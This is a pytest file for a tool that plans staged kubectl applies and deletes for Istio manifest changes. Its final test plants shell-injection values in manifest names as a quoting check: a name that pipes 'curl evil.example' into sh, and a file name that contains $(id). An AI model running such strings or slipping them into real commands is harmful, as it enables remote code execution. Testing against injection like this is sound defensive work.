"""The staged plan as a reviewer runs it: repository files where they apply nothing too early,
generated documents only where needed, and nothing that an error holds back."""

from __future__ import annotations

import shlex
from pathlib import Path

import yaml

from bot.plan import commands, stage_files
from bot.report import Report
from tests.helpers import diff

ROOT = Path(__file__).resolve().parent.parent


def tree(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): p.read_text() for p in sorted(folder.rglob("*.yaml"))}


def dr(name: str, subsets: list[str], ns: str = "shop", tls: str = "") -> str:
    text = (f"apiVersion: networking.istio.io/v1\nkind: DestinationRule\nmetadata:\n  name: {name}\n  namespace: {ns}\n"
            f"spec:\n  host: {name}\n")
    if tls:
        text += f"  trafficPolicy:\n    tls:\n      mode: {tls}\n"
    return text + "  subsets:\n" + "".join(f"  - name: {s}\n    labels:\n      version: {s}\n" for s in subsets)


def vs(name: str, subsets: list[str], ns: str = "shop") -> str:
    return (f"apiVersion: networking.istio.io/v1\nkind: VirtualService\nmetadata:\n  name: {name}\n  namespace: {ns}\n"
            f"spec:\n  hosts:\n  - {name}\n  http:\n  - route:\n"
            + "".join(f"    - destination:\n        host: {name}\n        subset: {s}\n" for s in subsets))


def plan_lines(report: Report) -> list[list[str]]:
    return [commands(stage, i) for i, stage in enumerate(report.plan.stages, start=1)]


def test_example_plan_names_repository_files_and_leaves_errors_out() -> None:
    report = diff(tree(ROOT / "examples" / "base"), tree(ROOT / "examples" / "head"))
    assert plan_lines(report) == [
        ["kubectl apply -f shop/reviews-tuning.yaml", "kubectl apply -f payments/payments.yaml",
         "kubectl apply -f stage-1.yaml"],
        ["kubectl apply -f stage-2.yaml"],
        ["kubectl apply -f shop/reviews.yaml"],
    ]
    # Every resource an error flags is left out, with the file that does not parse.
    assert [r.display for r in report.plan.left_out] == [
        "VirtualService shop/frontend", "DestinationRule shop/inventory", "Gateway shop/partner-gw",
        "VirtualService shop/partner", "VirtualService shop/ratings", "VirtualService shop/ratings-canary",
        "File shop/search.yaml"]
    planned = {s.resource.display for st in report.plan.stages for s in st.steps}
    assert not planned & {r.display for r in report.plan.left_out}
    files = stage_files(report.plan)
    assert sorted(files) == ["stage-1.yaml", "stage-2.yaml"]
    (transition,) = yaml.safe_load_all(files["stage-1.yaml"])
    assert [s["name"] for s in transition["spec"]["subsets"]] == ["v2", "v3", "v1"]  # head plus the subset it loses
    (route,) = yaml.safe_load_all(files["stage-2.yaml"])
    assert route["kind"] == "VirtualService" and route["metadata"]["name"] == "reviews"
    assert "# canary of the new ranking model" in files["stage-1.yaml"]  # as written, comments kept


def test_a_file_is_applied_whole_in_the_stage_of_its_last_document() -> None:
    base = {"reviews/dr.yaml": dr("reviews", ["v1"]), "reviews/vs.yaml": vs("reviews", ["v1"])}
    head = {"reviews/dr.yaml": dr("reviews", ["v2"]), "reviews/vs.yaml": vs("reviews", ["v2"])}
    report = diff(base, head)
    # v2 added (DR first), v1 dropped (VS first): DR transition, VS, then the DR file as written.
    assert plan_lines(report) == [["kubectl apply -f stage-1.yaml"], ["kubectl apply -f reviews/vs.yaml"],
                                  ["kubectl apply -f reviews/dr.yaml"]]
    assert report.plan.left_out == ()


def test_an_error_holds_back_its_resource_and_what_must_follow_it() -> None:
    pa = ("apiVersion: security.istio.io/v1\nkind: PeerAuthentication\nmetadata:\n  name: default\n"
          "  namespace: istio-system\nspec:\n  mtls:\n    mode: STRICT\n")
    base = {"mesh.yaml": pa, "reviews.yaml": dr("reviews", ["v1"]) + "---\n" + vs("reviews", ["v1"]),
            "ratings.yaml": dr("ratings", ["v1"])}
    head = {"mesh.yaml": pa,
            "reviews.yaml": dr("reviews", ["v1", "v2"], tls="DISABLE") + "---\n" + vs("reviews", ["v1", "v2"]),
            "ratings.yaml": dr("ratings", ["v1", "v2"])}
    report = diff(base, head)
    assert [f.rule for f in report.headline() if f.severity.value == "error"] == ["dr-tls-conflict"]
    # The DestinationRule has the error; the VirtualService needs its new subset first: both wait.
    assert [r.display for r in report.plan.left_out] == ["DestinationRule shop/reviews", "VirtualService shop/reviews"]
    assert plan_lines(report) == [["kubectl apply -f ratings.yaml"]]


def test_a_file_level_error_holds_back_every_change_written_in_that_file() -> None:
    base = {"reviews.yaml": dr("reviews", ["v1"]), "ratings.yaml": dr("ratings", ["v1"])}
    twice = dr("reviews", ["v1", "v2"], tls="ISTIO_MUTUAL").replace("spec:\n", "spec:\n  trafficPolicy: {}\n", 1)
    head = {"reviews.yaml": twice, "ratings.yaml": dr("ratings", ["v1", "v2"])}
    report = diff(base, head)
    assert [f.rule for f in report.headline() if f.severity.value == "error"] == ["duplicate-key"]
    # What kubectl would read from the file is not what the author wrote: nothing of it is applied.
    assert [r.display for r in report.plan.left_out] == ["DestinationRule shop/reviews", "File reviews.yaml"]
    assert plan_lines(report) == [["kubectl apply -f ratings.yaml"]]


def test_commands_quote_what_a_manifest_names() -> None:
    hostile = "x;curl evil.example|sh"
    gw_api = ("apiVersion: gateway.networking.k8s.io/v1\nkind: Gateway\nmetadata:\n  name: edge\n  namespace: infra\n"
              "spec:\n  gatewayClassName: istio\n  listeners: []\n")
    base = {"old.yaml": vs("reviews", ["v1"]).replace("name: reviews\n", f'name: "{hostile}"\n', 1),
            "gw.yaml": gw_api, "a.yaml": dr("a", ["v1"])}
    head = {"my mesh/a $(id).yaml": dr("a", ["v1", "v2"])}
    report = diff(base, head)
    (lines,) = plan_lines(report)
    assert [shlex.split(line) for line in lines] == [
        ["kubectl", "apply", "-f", "my mesh/a $(id).yaml"],
        ["kubectl", "delete", "-n", "infra", "gateway.gateway.networking.k8s.io/edge"],
        ["kubectl", "delete", "-n", "shop", f"virtualservice.networking.istio.io/{hostile}"],
    ]
